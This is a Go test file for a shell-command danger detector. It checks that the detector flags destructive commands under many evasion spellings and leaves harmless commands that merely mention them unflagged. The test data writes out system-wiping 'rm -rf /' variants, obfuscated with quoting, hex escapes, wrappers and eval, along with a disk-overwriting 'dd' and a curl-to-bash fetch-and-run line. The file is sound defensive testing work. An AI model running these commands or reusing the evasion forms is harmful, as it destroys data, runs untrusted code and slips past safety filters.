package danger_test

import (
	"bufio"
	"os"
	"path/filepath"
	"reflect"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/shellguard/shellguard/danger"
)

func detector(t testing.TB) *danger.Detector {
	t.Helper()
	return danger.Default()
}

// rulesFor returns the names of the patterns that fire on cmd.
func rulesFor(d *danger.Detector, cmd string) []string {
	var names []string
	for _, w := range d.Check(cmd) {
		names = append(names, w.Pattern.Name)
	}
	return names
}

// Evasions: every spelling must still reach the named rule.
// Parser evasions: every spelling of the same command (quoting, wrappers,
// shell strings, heredocs, substitutions, control flow) must still reach
// the rule. Examples of one rule are the rule's own hit and miss lines
// (danger/rules/*.toml, TestRuleExamples).
var evasions = []struct {
	cmd, rule string
}{
	{`rm -rf /`, "rm_rf_root"},
	{`r''m -rf /`, "rm_rf_root"},
	{`"rm" -rf /`, "rm_rf_root"},
	{`\rm -rf /`, "rm_rf_root"},
	{`r\m -rf /`, "rm_rf_root"},
	{`$'rm' -rf /`, "rm_rf_root"},
	{`$'\x72\x6d' -rf /`, "rm_rf_root"},
	{`/bin/rm -rf /`, "rm_rf_root"},
	{`sudo rm -rf /`, "rm_rf_root"},
	{`sudo -u root rm -rf /`, "rm_rf_root"},
	{`doas rm -rf /`, "rm_rf_root"},
	{`env rm -rf /`, "rm_rf_root"},
	{`env -i FOO=1 rm -rf /`, "rm_rf_root"},
	{`FOO=1 rm -rf /`, "rm_rf_root"},
	{`nice -n 19 rm -rf /`, "rm_rf_root"},
	{`nohup rm -rf / &`, "rm_rf_root"},
	{`timeout 5 rm -rf /`, "rm_rf_root"},
	{`time rm -rf /`, "rm_rf_root"},
	{`command rm -rf /`, "rm_rf_root"},
	{`builtin exec rm -rf /`, "rm_rf_root"},
	{`stdbuf -o0 rm -rf /`, "rm_rf_root"},
	{`ionice -c 3 rm -rf /`, "rm_rf_root"},
	{`chroot /mnt rm -rf /`, "rm_rf_root"},
	{`strace -f rm -rf /`, "rm_rf_root"},
	{`setsid rm -rf /`, "rm_rf_root"},
	// xargs takes rm's operands from its input: the deletion is seen.
	{`echo / | xargs rm -rf`, "rm_recursive"},
	{`bash -c 'rm -rf /'`, "rm_rf_root"},
	{`sh -c "rm -rf /"`, "rm_rf_root"},
	{`zsh -c 'rm -rf /'`, "rm_rf_root"},
	{`bash -lc 'rm -rf /'`, "rm_rf_root"},
	{`sudo bash -c 'rm -rf /'`, "rm_rf_root"},
	{`su -c 'rm -rf /'`, "rm_rf_root"},
	{`su root -c 'rm -rf /'`, "rm_rf_root"},
	{`eval 'rm -rf /'`, "rm_rf_root"},
	{`eval rm -rf /`, "rm_rf_root"},
	{`xargs sh -c 'rm -rf /'`, "rm_rf_root"},
	{`find . -exec sh -c 'rm -rf /' \;`, "rm_rf_root"},
	{`watch 'rm -rf /'`, "rm_rf_root"},
	{`ssh host rm -rf /`, "rm_rf_root"},
	{`ssh -p 22 host 'rm -rf /'`, "rm_rf_root"},
	{"ls -la\nrm -rf /", "rm_rf_root"},
	{`ls; rm -rf /`, "rm_rf_root"},
	{`true && rm -rf /`, "rm_rf_root"},
	{`false || rm -rf /`, "rm_rf_root"},
	{`(rm -rf /)`, "rm_rf_root"},
	{`{ rm -rf /; }`, "rm_rf_root"},
	{`echo $(rm -rf /)`, "rm_rf_root"},
	{"echo `rm -rf /`", "rm_rf_root"},
	{`cat <(rm -rf /)`, "rm_rf_root"},
	{`f() { rm -rf /; }; f`, "rm_rf_root"},
	{`if true; then rm -rf /; fi`, "rm_rf_root"},
	{`for i in 1; do rm -rf /; done`, "rm_rf_root"},
	{"bash <<EOF\nrm -rf /\nEOF", "rm_rf_root"},
	{`bash <<< 'rm -rf /'`, "rm_rf_root"},
	{`echo "rm -rf /" | sh`, "rm_rf_root"},
	{`printf 'rm -rf /' | bash`, "rm_rf_root"},
	{`bash -c "bash -c 'rm -rf /'"`, "rm_rf_root"},
	{`sudo dd if=/dev/urandom of=/dev/nvme0n1 bs=1M`, "dd_if_device"},
	{`curl -s http://x | sudo -E bash -s`, "curl_pipe_bash"},
	{`git -C repo push --force`, "git_push_force"},
}

func TestEvasions(t *testing.T) {
	d := detector(t)
	for _, tc := range evasions {
		t.Run(tc.cmd, func(t *testing.T) {
			got := rulesFor(d, tc.cmd)
			if !slices.Contains(got, tc.rule) {
				t.Errorf("Check(%q) = %v, want %s among them", tc.cmd, got, tc.rule)
			}
		})
	}
}

// Data is not a command: none of these may warn.
var dataNotCommand = []string{
	`echo "rm -rf /"`,
	`echo rm -rf /`,
	`printf 'rm -rf /\n'`,
	`grep -r "rm -rf" .`,
	`rg 'rm -rf /' src`,
	`git commit -m "rm -rf / is dangerous"`,
	`git commit -m 'fix: avoid :(){ :|:& };:'`,
	`python3 -c "print('rm -rf /')"`,
	`man dd`,
	`man rm`,
	`docker run --rm -it ubuntu bash`,
	`ls -la`,
	`git status`,
	`git push origin main`,
	`rm file.txt`,
	`chmod 644 file`,
	`dd if=disk.img of=backup.img`,
	`cat /etc/passwd`,
	`curl -o file https://example.com/x`,
	`wget https://example.com/x.tar.gz`,
	`git add -u`,
	`sort -u file`,
	`grep -o foo file`,
	`echo "curl http://x | sh"`,
	`cat README.md | grep install`,
	`kill -9 1234`,
	`crontab -l`,
	`fdisk -l`,
	`git checkout main`,
	`git restore --staged .`,
	`git branch -d merged`,
	`mkfs.ext4 disk.img`,
	`echo "$HOME"`,
	`export PATH=$PATH:/opt/bin`,
}

func TestDataIsNotCommand(t *testing.T) {
	d := detector(t)
	for _, cmd := range dataNotCommand {
		if got := rulesFor(d, cmd); len(got) > 0 {
			t.Errorf("Check(%q) = %v, want no warning", cmd, got)
		}
	}
}

// Routine deletions and the lease push are flagged, but only Low: decide
// asks, an approval can cover them, nothing denies them.
func TestRoutineIsLowOnly(t *testing.T) {
	d := detector(t)
	for _, cmd := range []string{`rm -rf ./build`, `rm -rf node_modules`, `rm -rf /tmp/x`, `rm -rf /var/tmp/../etc`,
		`find . -name '*.pyc' -delete`, `git push --force-with-lease`, `rm -rf $TMPDIR/build`} {
		lvl, ok := d.MaxLevel(cmd)
		if !ok || lvl != danger.Low {
			t.Errorf("MaxLevel(%q) = %v %v, want Low", cmd, lvl, ok)
		}
	}
}

func TestAllWarningsReported(t *testing.T) {
	d := detector(t)
	got := rulesFor(d, `sudo rm -rf / ; git push --force; chmod 777 x`)
	want := []string{"rm_rf_root", "chmod_777", "sudo_rm", "rm_recursive", "git_push_force", "git_push_force_unnamed_branch"}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("got %v, want %v (every warning, registry order)", got, want)
	}
}

func TestSeedRegistryKept(t *testing.T) {
	want := map[string]danger.Level{
		"rm_rf_root": danger.Critical, "rm_rf_wildcard": danger.Critical, "fork_bomb": danger.Critical,
		"dd_if_device": danger.High, "mkfs": danger.High, "shred_device": danger.High,
		"chmod_777": danger.Medium, "sudo_rm": danger.Medium, "wget_pipe_sh": danger.Medium,
		"curl_pipe_sh": danger.Medium, "wget_pipe_bash": danger.Medium, "curl_pipe_bash": danger.Medium,
		"git_push_force": danger.Low, "chmod_recursive_permissive": danger.Low,
	}
	ps := danger.DefaultPatterns()
	// The registry is in pack order (core.filesystem first); the seed's
	// first rules lead it.
	for i, name := range []string{"rm_rf_root", "rm_rf_wildcard"} {
		if ps[i].Name != name {
			t.Errorf("pattern %d is %s, want %s (seed order)", i, ps[i].Name, name)
		}
	}
	for _, p := range ps {
		if lvl, ok := want[p.Name]; ok {
			if p.Level != lvl {
				t.Errorf("%s level %v, want %v", p.Name, p.Level, lvl)
			}
			delete(want, p.Name)
		}
		if p.Description == "" {
			t.Errorf("%s has no description", p.Name)
		}
	}
	if len(want) > 0 {
		t.Errorf("seed patterns missing: %v", want)
	}
}

func TestRegistryManagement(t *testing.T) {
	d := detector(t)
	n := len(d.Patterns())
	if err := d.Add(danger.Pattern{Name: "drop_database", Regex: `\bDROP\s+DATABASE\b`, Level: danger.Critical, Description: "drops a database"}); err != nil {
		t.Fatal(err)
	}
	if got := rulesFor(d, `psql -c "drop database prod"`); !slices.Contains(got, "drop_database") {
		t.Errorf("custom regex not matched inside psql -c: %v", got)
	}
	if err := d.Add(danger.Pattern{Name: "drop_database", Regex: "x", Level: danger.Low, Description: "dup"}); err == nil {
		t.Error("duplicate name accepted")
	}
	if err := d.Add(danger.Pattern{Name: "bad", Regex: "(", Level: danger.Low, Description: "bad"}); err == nil {
		t.Error("invalid regex accepted")
	}
	// An operand expression that parses only inside the anchoring group
	// would leave part of it unanchored.
	if err := d.Add(danger.Pattern{Name: "bad_group", Level: danger.Low, Description: "bad", Match: &danger.Spec{Programs: []string{"rm"}, Operand: "0)|ba("}}); err == nil {
		t.Error("operand expression that closes the anchoring group accepted")
	}
	if !d.Remove("git_push_force") || d.Remove("git_push_force") {
		t.Error("Remove should report true once, then false")
	}
	if got := rulesFor(d, "git push --force"); slices.Contains(got, "git_push_force") {
		t.Error("removed pattern still fires")
	}
	ps := d.Patterns()
	ps[0].Name = "changed"
	if d.Patterns()[0].Name == "changed" {
		t.Error("Patterns must return a copy")
	}
	if len(d.Patterns()) != n {
		t.Errorf("patterns: %d, want %d", len(d.Patterns()), n)
	}
	if err := d.Replace([]danger.Pattern{{Name: "only", Regex: "^ls", Level: danger.Low, Description: "ls"}}); err != nil {
		t.Fatal(err)
	}
	if d.IsDangerous("rm -rf /") || !d.IsDangerous("ls -la") {
		t.Error("Replace did not replace the registry")
	}
	if d.IsDangerous("echo ls") {
		t.Error("regex matched data: echo ls is an invocation of echo")
	}
	lvl, ok := d.MaxLevel("ls")
	if !ok || lvl != danger.Low {
		t.Errorf("MaxLevel = %v %v", lvl, ok)
	}
	if _, ok := d.CheckFirst("pwd"); ok {
		t.Error("CheckFirst on a clean command")
	}
}

func TestCaseSensitivity(t *testing.T) {
	p := danger.Pattern{Name: "x", Regex: "DROP", Level: danger.Low, Description: "x", CaseSensitive: true}
	if danger.MustNewDetector([]danger.Pattern{p}).IsDangerous("psql -c 'drop'") {
		t.Error("case-sensitive pattern matched lower case")
	}
	p.CaseSensitive = false
	if !danger.MustNewDetector([]danger.Pattern{p}).IsDangerous("psql -c 'drop'") {
		t.Error("case-insensitive pattern did not match")
	}
}

// TestNewDetectorOnlyItsPatterns: NewDetector's registry is what it is
// given, nil included; the built-in rules come only from Default.
func TestNewDetectorOnlyItsPatterns(t *testing.T) {
	for _, ps := range [][]danger.Pattern{nil, {}} {
		d, err := danger.NewDetector(ps)
		if err != nil {
			t.Fatalf("NewDetector(%#v): %v", ps, err)
		}
		if n := len(d.Patterns()); n != 0 || d.IsDangerous("rm -rf /") {
			t.Errorf("NewDetector(%#v): %d patterns, rm -rf / dangerous: %v", ps, n, d.IsDangerous("rm -rf /"))
		}
	}
	if !danger.Default().IsDangerous("rm -rf /") {
		t.Error("Default does not flag rm -rf /")
	}
}

func TestWarningMessage(t *testing.T) {
	w, ok := detector(t).CheckFirst("rm -rf /")
	if !ok {
		t.Fatal("no warning")
	}
	if !strings.HasPrefix(w.Message, "[Critical] Dangerous command detected: rm -rf / recursively deletes") {
		t.Errorf("message %q", w.Message)
	}
	if w.Command != "rm -rf /" || w.Invocation != "rm -rf /" || w.Level != danger.Critical {
		t.Errorf("warning %+v", w)
	}
}

func TestConcurrentUse(t *testing.T) {
	d := detector(t)
	var wg sync.WaitGroup
	for i := 0; i < 8; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			for j := 0; j < 200; j++ {
				if !d.IsDangerous("rm -rf /") {
					t.Error("lost a warning under concurrency")
					return
				}
				if i == 0 && j%20 == 0 {
					_ = d.Add(danger.Pattern{Name: "p" + string(rune('a'+j/20)), Regex: "zzz", Level: danger.Low, Description: "z"})
				}
			}
		}(i)
	}
	wg.Wait()
}

// sharedDir finds ../shared from the package directory.
func sharedDir(t testing.TB) string {
	dir, _ := filepath.Abs(".")
	for i := 0; i < 6; i++ {
		p := filepath.Join(dir, "shared")
		if st, err := os.Stat(filepath.Join(p, "corpus")); err == nil && st.IsDir() {
			return p
		}
		dir = filepath.Dir(dir)
	}
	t.Skip("shared/ corpus not present")
	return ""
}

func readLines(t testing.TB, path string, col int) []string {
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	var out []string
	sc := bufio.NewScanner(f)
	sc.Buffer(make([]byte, 1<<20), 4<<20)
	for sc.Scan() {
		line := sc.Text()
		if col >= 0 {
			parts := strings.Split(line, "\t")
			if col >= len(parts) {
				continue
			}
			line = parts[col]
		}
		out = append(out, line)
	}
	return out
}

func TestDangerousCorporaFlagged(t *testing.T) {
	sh := sharedDir(t)
	d := detector(t)
	check := func(name string, lines []string) {
		for _, l := range lines {
			if !d.IsDangerous(l) {
				t.Errorf("%s: not flagged: %q", name, l)
			}
		}
	}
	check("dangerous-classic", readLines(t, filepath.Join(sh, "corpus/dangerous/dangerous-classic.tsv"), 1))
	check("bashfuscator", readLines(t, filepath.Join(sh, "corpus/dangerous/dangerous-bashfuscator.tsv"), 1)[1:])
	seeds := readLines(t, filepath.Join(sh, "corpus/dangerous/dangerous-bashfuscator.seeds.tsv"), 2)[1:]
	check("bashfuscator seeds", seeds)
	check("bashfuscator seeds, obfuscated", readLines(t, filepath.Join(sh, "corpus/dangerous/dangerous-bashfuscator.seeds.tsv"), 3)[1:])
}

// The Critical/High lines of the benign corpora are exactly the reviewed
// list (testdata/corpus-high-reviewed.tsv), and every line of the corpora
// goes through without a panic. The reviewed list is committed: that each
// of its lines is still flagged Critical or High is checked without the
// corpora; only comparing against the corpora needs ../shared.
func TestCorpusHighReviewed(t *testing.T) {
	d := detector(t)
	reviewed := map[string]bool{}
	for _, l := range readLines(t, "testdata/corpus-high-reviewed.tsv", -1) {
		if strings.HasPrefix(l, "#") || l == "" {
			continue
		}
		parts := strings.SplitN(l, "\t", 3)
		if len(parts) != 3 {
			t.Errorf("corpus-high-reviewed.tsv: want corpus<TAB>rules<TAB>command: %q", l)
			continue
		}
		reviewed[parts[0]+"\t"+parts[2]] = true
	}
	if len(reviewed) == 0 {
		t.Fatal("corpus-high-reviewed.tsv lists no line")
	}
	t.Run("reviewed", func(t *testing.T) {
		for k := range reviewed {
			_, line, _ := strings.Cut(k, "\t")
			if lvl, ok := d.MaxLevel(line); !ok || lvl < danger.High {
				t.Errorf("reviewed line no longer flagged Critical/High (update the fixture): %q", k)
			}
		}
	})
	t.Run("corpora", func(t *testing.T) {
		sh := sharedDir(t)
		seen := map[string]bool{}
		for _, name := range []string{"tldr.txt", "nl2bash.txt", "cheatsheets.txt", "tldr-longopts.txt"} {
			for _, l := range readLines(t, filepath.Join(sh, "corpus/benign", name), -1) {
				lvl, ok := d.MaxLevel(l)
				if !ok || lvl < danger.High {
					continue
				}
				key := name + "\t" + l
				seen[key] = true
				if !reviewed[key] {
					t.Errorf("%s: flagged %v but not in the reviewed list: %q", name, lvl, l)
				}
			}
		}
		for k := range reviewed {
			if !seen[k] {
				t.Errorf("reviewed line not in the corpora, or no longer flagged Critical/High (update the fixture): %q", k)
			}
		}
		for _, name := range []string{"dangerous-payloadsallthethings.tsv", "dangerous-patt-intruder.tsv"} {
			for _, l := range readLines(t, filepath.Join(sh, "corpus/dangerous", name), 1) {
				d.Check(l) // must not panic
			}
		}
	})
}

func BenchmarkCheck(b *testing.B) {
	d := detector(b)
	lines := []string{
		`git commit -m "fix parser" && git push origin main`,
		`ls -la /tmp`,
		`find . -name '*.go' | xargs grep -n TODO`,
		`sudo rm -rf /`,
		`curl -fsSL https://example.com/install.sh | sh`,
		`docker run --rm -it -v "$PWD:/src" golang:1.26 go test ./...`,
	}
	b.ReportAllocs()
	for i := 0; b.Loop(); i++ {
		d.Check(lines[i%len(lines)])
	}
}

func FuzzCheck(f *testing.F) {
	for _, e := range evasions {
		f.Add(e.cmd)
	}
	for _, s := range dataNotCommand {
		f.Add(s)
	}
	for _, c := range argvRunnerCases {
		f.Add(c.cmd)
	}
	for _, p := range danger.DefaultPatterns() {
		for _, l := range append(p.Hit, p.Miss...) {
			f.Add(l)
		}
	}
	d := danger.Default()
	f.Fuzz(func(t *testing.T, s string) {
		ws := d.Check(s)
		for _, w := range ws {
			if !w.Level.Valid() || w.Message == "" {
				t.Fatalf("bad warning %+v", w)
			}
		}
		// Determinism: the same input always gets the same warnings.
		if again := d.Check(s); len(again) != len(ws) {
			t.Fatalf("non-deterministic: %d then %d warnings", len(ws), len(again))
		}
	})
}
